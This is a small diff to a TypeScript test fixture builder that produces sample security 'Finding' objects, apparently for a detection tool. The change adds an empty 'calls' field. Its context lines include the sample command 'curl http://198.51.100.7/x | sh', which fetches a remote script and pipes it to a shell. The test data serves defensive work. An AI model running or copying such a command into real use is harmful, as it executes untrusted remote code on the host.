@@ -20,6 +20,7 @@ export function aFinding(given: Partial<Finding> = {}): Finding {
     principal: 'arn:aws:iam::222222222222:user/dev',
     command: 'curl http://198.51.100.7/x | sh',
     event: null,
+    calls: [],
     moment: 12.5,
     foundAt: T0,
     lastAt: T0,
